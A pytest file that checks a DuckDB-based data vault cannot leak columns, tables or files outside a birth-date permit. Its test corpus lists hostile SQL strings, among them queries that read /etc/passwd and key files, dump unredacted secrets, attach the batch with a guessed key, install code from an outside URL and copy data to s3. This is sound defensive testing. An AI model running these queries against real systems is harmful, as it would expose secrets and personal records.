"""Requests to a permit's engine that must not yield a forbidden cell: it is for birth dates; the batch also holds names and numbers."""

import duckdb
import pytest
from vault_town import FORBIDDEN, Stored, Town

from hagukumi.vault import VaultError

COLUMN = {
    "select": "SELECT name FROM juki",
    "select the number": "SELECT number FROM juki",
    "select the match key": "SELECT name_key FROM juki",
    "qualified": "SELECT juki.name FROM juki",
    "alias": "SELECT j.name AS birth_date FROM juki AS j",
    "column alias list": "SELECT a FROM juki AS j(a, b, c)",
    "filter": "SELECT birth_date FROM juki WHERE name LIKE 'MARKER%'",
    "sort": "SELECT birth_date FROM juki ORDER BY name",
    "group": "SELECT count(*) FROM juki GROUP BY name",
    "having": "SELECT count(*) FROM juki GROUP BY birth_date HAVING max(name) > ''",
    "distinct on": "SELECT DISTINCT ON (name) birth_date FROM juki",
    "window partition": "SELECT row_number() OVER (PARTITION BY name) FROM juki",
    "window order": "SELECT row_number() OVER (ORDER BY name) FROM juki",
    "qualify": "SELECT birth_date FROM juki QUALIFY row_number() OVER (ORDER BY name) = 1",
    "aggregate": "SELECT string_agg(name) FROM juki",
    "arg max": "SELECT arg_max(name, birth_date) FROM juki",
    "cte": "WITH a AS (SELECT name FROM juki) SELECT * FROM a",
    "recursive cte": "WITH RECURSIVE a AS (SELECT name FROM juki UNION ALL SELECT name FROM a) SELECT * FROM a",
    "subquery": "SELECT (SELECT name FROM juki LIMIT 1)",
    "exists": "SELECT EXISTS (SELECT 1 FROM juki WHERE name IS NOT NULL)",
    "lateral": "SELECT * FROM juki j, LATERAL (SELECT j.name)",
    "join on": "SELECT a.birth_date FROM juki a JOIN juki b ON a.name = b.name",
    "join using": "SELECT * FROM juki JOIN juki AS b USING (name)",
    "positional join": "SELECT name FROM juki POSITIONAL JOIN juki AS b",
    "star": "SELECT * FROM juki",
    "star exclude": "SELECT * EXCLUDE (birth_date) FROM juki",
    "star replace": "SELECT * REPLACE (name AS birth_date) FROM juki",
    "columns regex": "SELECT COLUMNS('.*name.*') FROM juki",
    "columns all": "SELECT COLUMNS(*) FROM juki",
    "columns lambda": "SELECT COLUMNS(c -> c LIKE 'n%') FROM juki",
    "whole row": "SELECT juki FROM juki",
    "row to json": "SELECT to_json(juki) FROM juki",
    "struct pack": "SELECT struct_pack(j := juki) FROM juki",
    "unnest row": "SELECT unnest(juki) FROM juki",
    "list of rows": "SELECT list(juki) FROM juki",
    "pivot": "PIVOT juki ON name",
    "unpivot": "UNPIVOT juki ON COLUMNS('n.*')",
    "summarize": "SUMMARIZE juki",
    "describe": "DESCRIBE juki",
    "table statement": "TABLE juki",
    "from first": "FROM juki",
    "query function": "SELECT * FROM query('SELECT name FROM juki')",
    "query table": "SELECT * FROM query_table('juki')",
    "prepared": "PREPARE p AS SELECT name FROM juki",
    "macro": "CREATE MACRO m() AS TABLE SELECT name FROM juki",
    "view": "CREATE VIEW v AS SELECT name FROM juki",
    "copy of the table": "CREATE TABLE copy AS SELECT name FROM juki",
    "update returning": "UPDATE juki SET birth_date = NULL RETURNING name",
    "delete returning": "DELETE FROM juki RETURNING name",
    "row id": "SELECT rowid, name FROM juki",
    "sample": "SELECT name FROM juki USING SAMPLE 1",
    "explain analyze": "EXPLAIN ANALYZE SELECT name FROM juki",
    "storage info": "SELECT * FROM pragma_storage_info('juki')",
    "statistics": "SELECT stats(name) FROM juki",
}
TABLE = {
    "quarantine": "SELECT * FROM _quarantine",
    "other source": "SELECT * FROM family",
    "attached batch": "SELECT * FROM batch.main.juki",
    "first attached batch": "SELECT * FROM batch_0.main.juki",
    "incoming stream": "SELECT * FROM incoming",
    "wanted persons": "SELECT * FROM wanted",
    "columns of the catalogue": "SELECT * FROM duckdb_columns() WHERE NOT internal",
    "information schema": "SELECT * FROM information_schema.columns",
    "tables of the catalogue": "SELECT * FROM duckdb_tables()",
    "databases of the catalogue": "SELECT * FROM duckdb_databases()",
    "settings": "SELECT * FROM duckdb_settings()",
    "secrets": "SELECT * FROM duckdb_secrets(redact := false)",
    "views of the catalogue": "SELECT * FROM duckdb_views()",
    "temporary files": "SELECT * FROM duckdb_temporary_files()",
    "memory": "SELECT * FROM duckdb_memory()",
    "variables of Python": "SELECT * FROM stored",
    "python scan": "SELECT * FROM python_map_function()",
}
OUTSIDE = {
    "copy out": "COPY juki TO '{file}' (FORMAT csv)",
    "copy in": "COPY juki FROM '/etc/passwd'",
    "copy database": "COPY FROM DATABASE memory TO batch",
    "export": "EXPORT DATABASE '{folder}'",
    "import": "IMPORT DATABASE '{folder}'",
    "attach a file": "ATTACH '{file}' AS outside",
    "attach the batch": "ATTACH '{batch}' AS stolen (READ_ONLY)",
    "attach with a guessed key": "ATTACH '{batch}' AS stolen (ENCRYPTION_KEY '0000', READ_ONLY)",
    "read the batch": "SELECT * FROM read_duckdb('{batch}')",
    "read the batch as bytes": "SELECT * FROM read_blob('{batch}')",
    "read the wrapped key": "SELECT * FROM read_text('{key}')",
    "read a master key": "SELECT * FROM read_text('{master}')",
    "read parquet": "SELECT * FROM read_parquet('{file}')",
    "read csv": "SELECT * FROM read_csv('/etc/passwd')",
    "read json": "SELECT * FROM read_json('{key}')",
    "sniff": "SELECT * FROM sniff_csv('/etc/passwd')",
    "file as table": "SELECT * FROM '/etc/passwd'",
    "glob": "SELECT * FROM glob('{home}/**')",
    "network": "SELECT * FROM read_csv('https://example.invalid/x.csv')",
    "send to the network": "COPY juki TO 's3://example/x.csv'",
    "install": "INSTALL httpfs",
    "install from elsewhere": "INSTALL x FROM 'http://example.invalid'",
    "load": "LOAD '{file}'",
    "set external access": "SET enable_external_access = true",
    "set unsigned extensions": "SET allow_unsigned_extensions = true",
    "unlock": "SET lock_configuration = false",
    "set directories": "SET allowed_directories = ['/']",
    "set paths": "SET allowed_paths = ['/etc/passwd']",
    "set file systems": "SET disabled_filesystems = ''",
    "set temporary directory": "SET temp_directory = '{folder}'",
    "reset temporary directory": "RESET temp_directory",
    "plain spill": "SET temp_file_encryption = false",
    "profiling output": "PRAGMA profiling_output = '{file}'",
    "profile": "PRAGMA enable_profiling = 'json'",
    "log to a file": "CALL enable_logging(storage = 'file', storage_path = '{folder}')",
    "import pragma": "PRAGMA import_database('{folder}')",
    "python replacement": "SET python_enable_replacements = true",
    "persistent secret": "CREATE PERSISTENT SECRET s (TYPE http)",
    "environment": "SELECT getenv('HAGUKUMI_KEYS')",
    "home directory": "SET home_directory = '{folder}'",
}


CASES = [(name, spill) for name in OUTSIDE for spill in (False, True) if not (spill and name == "log to a file")]
"""With spill, an order to log to a file is taken and ends the process when the file cannot be made (DuckDB 1.5.5): nothing leaks."""


def _answer(connection: duckdb.DuckDBPyConnection, query: str) -> str:
    """All that the engine says, be it rows or an error."""
    try:
        return str(connection.execute(query).fetchall())
    except duckdb.Error as error:
        return str(error)
    except Exception as error:
        return str(error)


def _opened(town: Town, stored: Stored, spill: bool):
    return town.vault.open_batches(town.ask("juki.birth_date"), [stored.juki], spill=spill)


@pytest.mark.parametrize("name", [*COLUMN, *TABLE])
def test_no_query_on_the_engine_shows_a_column_or_table_outside_the_permit(name: str, town: Town, stored: Stored) -> None:
    with _opened(town, stored, spill=False) as opened:
        answer = _answer(opened.connection, (COLUMN | TABLE)[name])
        columns = opened.connection.execute("DESCRIBE juki").fetchall()
    assert not any(text in answer for text in FORBIDDEN)
    assert {column[0] for column in columns} == {"_row", "birth_date"}


REFUSED_BECAUSE_ABSENT = [
    name for name, query in COLUMN.items() if "name" in query.replace("COLUMNS(c", "").replace("query_table", "") and "COLUMNS" not in query
]


@pytest.mark.parametrize("name", REFUSED_BECAUSE_ABSENT)
def test_a_column_outside_the_permit_does_not_exist_in_the_engine(name: str, town: Town, stored: Stored) -> None:
    with _opened(town, stored, spill=False) as opened, pytest.raises(duckdb.Error):
        opened.connection.execute(COLUMN[name]).fetchall()


@pytest.mark.parametrize(("name", "spill"), CASES, ids=[f"{name}{' with spill' if spill else ''}" for name, spill in CASES])
def test_the_engine_reaches_nothing_outside_itself(name: str, spill: bool, town: Town, stored: Stored, tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("HAGUKUMI_KEYS", str(town.keyring.folder))
    folder = tmp_path / "outside"
    manifest = town.vault.manifest(stored.juki)
    places = {
        "file": folder / "cells.csv",
        "folder": folder,
        "home": town.home,
        "batch": town.home / "vault" / "batches" / manifest.file_name,
        "key": town.home / "vault" / "keys" / f"{manifest.key_name}.json",
        "master": town.keyring.folder / "master-1.key",
    }
    with _opened(town, stored, spill=spill) as opened, pytest.raises(duckdb.Error):
        opened.connection.execute(OUTSIDE[name].format(**places)).fetchall()
    assert not folder.exists()


def test_the_locked_engine_reaches_not_even_its_own_spill_folder_unless_spill_was_allowed(town: Town, stored: Stored) -> None:
    with _opened(town, stored, spill=False) as opened:
        assert opened.connection.execute("SELECT current_setting('temp_directory')").fetchall() == [("",)]
        for target in (town.home / "vault" / "spill" / "x.csv", "/tmp/x.csv", "x.csv"):
            with pytest.raises(duckdb.Error):
                opened.connection.execute(f"COPY juki TO '{target}'")


def test_what_sql_writes_into_the_spill_folder_is_destroyed_and_told(town: Town, stored: Stored) -> None:
    opened = _opened(town, stored, spill=True)
    (folder,) = (town.home / "vault" / "spill").iterdir()
    opened.connection.execute(f"COPY juki TO '{folder}/x.csv'")
    with pytest.raises(VaultError, match="一時フォルダ"):
        opened.close()
    assert list((town.home / "vault" / "spill").iterdir()) == []


def test_the_corpus_is_large_enough() -> None:
    assert len(COLUMN) + len(TABLE) + len(OUTSIDE) >= 60
